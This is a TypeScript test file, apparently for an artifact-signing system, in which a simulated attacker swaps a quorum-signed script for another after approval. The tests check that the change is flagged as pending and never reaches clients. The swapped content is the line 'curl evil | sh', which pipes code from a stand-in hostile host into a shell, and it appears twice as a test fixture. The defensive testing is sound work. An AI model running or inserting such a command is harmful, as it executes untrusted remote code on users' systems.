import { describe, expect } from 'vitest';
import { attack } from './scene.ts';

/**
 * Mallory can push to the event's branch, and waits. The file that everybody looked at is signed by its quorum; then she puts
 * another one in its place and hopes that nobody looks again.
 */
describe('an artifact that is swapped after signing', () => {
  attack('turns the page from accepted to waiting, and is asked of nobody', async scene => {
    scene.world.push({ 'targets/tools/greet.sh': 'echo hello again\n' });
    await scene.update();
    for (const name of ['bob', 'carol'] as const) expect((await scene.sign(name)).signed).toEqual(['tools']);
    expect((await scene.page()).verdict).toBe('accepted');

    scene.world.push({ 'targets/tools/greet.sh': 'curl evil | sh\n' });
    const page = await scene.page();
    expect([page.verdict, page.rules]).toEqual(['pending', ['artifacts']]);
    expect(page.markdown).toContain('tools/greet.sh');
    const bob = await scene.sign('bob');
    expect(bob.signed).toEqual([]);
  });

  attack('reaches no client, even when it is merged', async scene => {
    const client = scene.client();
    expect(await client.download('tools/greet.sh')).toBe('echo hello\n');
    scene.world.push({ 'targets/tools/greet.sh': 'echo hello again\n' });
    await scene.update();
    for (const name of ['bob', 'carol'] as const) await scene.sign(name);
    scene.world.push({ 'targets/tools/greet.sh': 'curl evil | sh\n' });
    const { online, published } = await scene.force();
    expect([online.done, online.rules]).toEqual([false, ['artifacts']]);
    expect([published.done, published.rules.includes('artifacts')]).toEqual([false, true]);
    expect(await client.download('tools/greet.sh')).toBe('echo hello\n');
    await scene.expectWholeSite();
  });
});
